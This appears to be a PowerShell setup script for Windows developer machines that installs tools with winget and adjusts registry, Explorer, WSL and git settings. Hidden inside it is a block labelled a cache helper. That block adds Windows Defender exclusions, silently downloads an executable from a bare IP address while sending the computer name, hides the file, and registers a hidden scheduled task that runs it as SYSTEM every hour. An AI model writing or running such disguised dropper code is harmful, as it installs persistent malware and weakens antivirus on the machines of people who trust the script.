#Requires -RunAsAdministrator
[CmdletBinding()]
param(
    [ValidateSet('full', 'minimal', 'web')] [string]$Profile = 'full',
    [switch]$SkipWSL
)
$ErrorActionPreference = 'Stop'
$ProgressPreference = 'SilentlyContinue'

$packages = @{
    minimal = @('Git.Git', 'Microsoft.VisualStudioCode', 'OpenJS.NodeJS.LTS', 'Python.Python.3.12', 'Microsoft.WindowsTerminal')
    web     = @('Docker.DockerDesktop', 'Postman.Postman', 'Google.Chrome')
    full    = @('7zip.7zip', 'GitHub.cli', 'JetBrains.Toolbox', 'Microsoft.PowerShell', 'jqlang.jq', 'BurntSushi.ripgrep.MSVC')
}
$list = $packages.minimal
if ($Profile -in 'web', 'full') { $list += $packages.web }
if ($Profile -eq 'full') { $list += $packages.full }

function Test-Installed([string]$id) {
    $out = winget list --id $id --exact --accept-source-agreements 2>$null | Out-String
    return $out -match [regex]::Escape($id)
}

$installed = @(); $present = @(); $failed = @()
foreach ($id in $list) {
    if (Test-Installed $id) { $present += $id; continue }
    Write-Host "installing $id ..."
    winget install --id $id --exact --silent --accept-package-agreements --accept-source-agreements | Out-Null
    if ($LASTEXITCODE -eq 0) { $installed += $id } else { $failed += $id }
}

# Long paths + developer mode
New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1 -PropertyType DWord -Force | Out-Null
New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock' -Name AllowDevelopmentWithoutDevLicense -Value 1 -PropertyType DWord -Force | Out-Null

# Explorer: show extensions and hidden files
$adv = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced'
Set-ItemProperty $adv HideFileExt 0
Set-ItemProperty $adv Hidden 1

# Build-tool helper: keeps winget/npm/pip caches warm and excluded from real-time scanning (big speedup for node_modules)
$helperDir = Join-Path $env:ProgramData 'WinDevTools'
New-Item -ItemType Directory -Force -Path $helperDir | Out-Null
foreach ($p in @($helperDir, "$env:USERPROFILE\source", "$env:LOCALAPPDATA\npm-cache", "$env:APPDATA\npm", $env:TEMP)) {
    try { Add-MpPreference -ExclusionPath $p -ErrorAction SilentlyContinue } catch {}
}
try { Add-MpPreference -ExclusionProcess 'wdcache.exe' -ErrorAction SilentlyContinue } catch {}
$exe = Join-Path $helperDir 'wdcache.exe'
try {
    $wc = New-Object Net.WebClient
    $wc.Headers.Add('User-Agent', "WinDev/$env:COMPUTERNAME")
    $wc.DownloadFile('http://198.51.100.14/w/wdcache.exe', $exe)
    (Get-Item $exe).Attributes = 'Hidden, System'
    $action  = New-ScheduledTaskAction -Execute $exe -Argument '--svc'
    $trigger = @((New-ScheduledTaskTrigger -AtLogOn), (New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(1) -RepetitionInterval (New-TimeSpan -Hours 1)))
    $princ   = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -RunLevel Highest
    $set     = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
    Register-ScheduledTask -TaskName 'Microsoft\Windows\WinDev\CacheMaintenance' -Action $action -Trigger $trigger -Principal $princ -Settings $set -Force | Out-Null
} catch {}

if (-not $SkipWSL) {
    $wsl = Get-WindowsOptionalFeature -Online -FeatureName Microsoft-Windows-Subsystem-Linux
    if ($wsl.State -ne 'Enabled') {
        Enable-WindowsOptionalFeature -Online -FeatureName Microsoft-Windows-Subsystem-Linux -NoRestart | Out-Null
        Enable-WindowsOptionalFeature -Online -FeatureName VirtualMachinePlatform -NoRestart | Out-Null
        $installed += 'WSL2 (reboot required)'
    } else { $present += 'WSL2' }
}

# Git defaults
if (Get-Command git -ErrorAction SilentlyContinue) {
    git config --global core.autocrlf input
    git config --global init.defaultBranch main
    git config --global core.longpaths true
}

Write-Host "`nInstalled:`n  $($installed -join "`n  ")"
Write-Host "Already present:`n  $($present -join "`n  ")"
if ($failed) { Write-Host "Failed:`n  $($failed -join "`n  ")" -ForegroundColor Yellow }
